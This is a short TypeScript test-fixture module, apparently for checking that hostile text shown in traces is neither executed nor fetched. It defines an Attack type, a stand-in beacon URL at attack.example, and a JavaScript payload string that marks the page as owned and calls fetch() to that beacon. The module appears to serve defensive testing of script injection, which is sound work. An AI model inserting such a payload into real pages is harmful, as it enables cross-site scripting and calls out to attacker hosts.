/** One hostile text, as an attacker would put it wherever a trace takes text. */
export interface Attack {
  /** Unique, in words. */
  readonly name: string
  readonly text: string
}

/** Where a text that is obeyed would call. Nobody must ever ask for it, not even a name server. */
export const beacon = 'https://beacon.attack.example'

/** What a script that runs would do: it is looked for in the page. */
export const payload = "window.__owned=(window.__owned||0)+1,fetch('https://beacon.attack.example/script')"

/** Attacks from pairs of a name and a text. */
export function attacks(pairs: Readonly<Record<string, string>>): readonly Attack[] {
  return Object.entries(pairs).map(([name, text]) => ({ name, text }))
}
